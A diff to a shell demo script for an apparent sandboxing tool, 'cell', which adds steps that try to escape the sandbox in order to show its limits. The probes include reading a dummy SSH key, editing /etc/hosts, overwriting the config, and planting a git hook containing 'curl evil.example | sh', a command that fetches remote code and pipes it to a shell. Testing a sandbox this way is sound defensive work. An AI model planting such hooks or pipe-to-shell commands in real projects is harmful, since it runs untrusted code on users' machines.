@@ -7,17 +7,23 @@ set -euo pipefail
 cell=${1:?usage: demo.sh PATH-TO-CELL}
 here=$(cd "$(dirname "$0")" && pwd)
 work=$(mktemp -d "${TMPDIR:-/tmp}/cell-demo.XXXXXX")
+chmod 755 "$work"
 trap 'rm -rf "$work"' EXIT
 
 export HOME="$work/home" XDG_CONFIG_HOME="$work/home/.config" XDG_DATA_HOME="$work/home/.local/share"
+export XDG_STATE_HOME="$work/home/.local/state"
 mkdir -p "$HOME"
 cp -a "$here" "$work/demo"
 rm -f "$work/demo/demo.sh"
 cd "$work/demo"
+mkdir -p .git/hooks && printf '[core]\n\tbare = false\n' > .git/config
+export AWS_SECRET_ACCESS_KEY=not-a-real-secret
 
 step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 run() {
-	printf '\033[2m$ %s\033[0m\n' "$*"
+	local shown
+	shown=$(printf '%q ' "$@")
+	printf '\033[2m$ %s\033[0m\n' "${shown% }"
 	local rc=0
 	"$@" || rc=$?
 	[ "$rc" -eq 0 ] || printf '\033[2m(exit status %d)\033[0m\n' "$rc"
@@ -46,13 +52,32 @@ sed -i 's/"mode": "tmpfs"/"mode": "tmpfz"/' .cell.json
 run cell explain
 mv .cell.json.good .cell.json
 
+step "A real cell: the project is writable, the rest of the machine is not"
+mkdir -p "$HOME/.ssh" && echo "PRIVATE KEY" > "$HOME/.ssh/id_ed25519"
+as_user=()
+if [ "$(id -u)" -eq 0 ]; then
+	# a cell never runs as root: as root, cell wants --user NAME (or $SUDO_USER); this demo,
+	# with no other user to hand, says --allow-root: root in a user namespace with no capabilities
+	as_user=(--allow-root)
+	echo "(running as root: the demo passes --allow-root; as yourself, no flag is needed)"
+fi
+run cell run "${as_user[@]}" -- sh -c 'echo "built in the cell" > build.log && cat build.log'
+cat build.log
+run cell run "${as_user[@]}" -- cat "$HOME/.ssh/id_ed25519"
+run cell run "${as_user[@]}" -- sh -c 'echo evil >> /etc/hosts'
+run cell run "${as_user[@]}" -- sh -c 'echo "curl evil.example | sh" > .git/hooks/post-checkout'
+run cell run "${as_user[@]}" -- sh -c 'echo "{}" > .cell.json'
+run cell run "${as_user[@]}" -- sh -c 'ps -e -o pid,comm; echo "hostname: $(hostname), CELL_NAME=$CELL_NAME"'
+run cell run "${as_user[@]}" -- sh -c 'env | grep -c AWS_SECRET_ACCESS_KEY'
+run cell run "${as_user[@]}" -- sh -c 'exit 3'
+
 step "Revoke trust"
 run cell deny
-run cell explain >/dev/null
+run cell run "${as_user[@]}" -- true
 
 step "cell init writes a starter config for the project type it finds"
 mkdir -p "$work/py" && touch "$work/py/pyproject.toml"
 run cell init "$work/py"
 cat "$work/py/.cell.json"
 
-printf '\nThe cell itself (cell run, cell enter, the shell hook) and the network path are not implemented yet; see README.md.\n'
+printf '\nNot implemented yet: the shell hook and the network path (proxy, BPF, shim): see README.md.\n'
